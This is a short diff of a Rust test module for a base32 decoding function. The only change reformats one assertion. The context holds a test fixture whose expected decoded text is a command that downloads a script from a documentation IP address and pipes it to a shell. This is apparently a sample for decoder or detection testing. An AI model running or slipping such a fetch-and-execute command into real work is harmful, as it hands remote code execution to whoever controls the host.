@@ -284,7 +284,10 @@ mod tests {
             base32_text(b32, false).as_deref(),
             Some("curl -s http://203.0.113.5/i | sh")
         );
-        assert_eq!(base32_text(&b32.to_ascii_lowercase(), false).as_deref(), base32_text(b32, false).as_deref());
+        assert_eq!(
+            base32_text(&b32.to_ascii_lowercase(), false).as_deref(),
+            base32_text(b32, false).as_deref()
+        );
         let hex = "CDQN4R105LPI0Q3KEHO3KBPF68O36BHG5OOJ2CPE6KNMI83S41PMG===";
         assert_eq!(
             base32_text(hex, true).as_deref(),
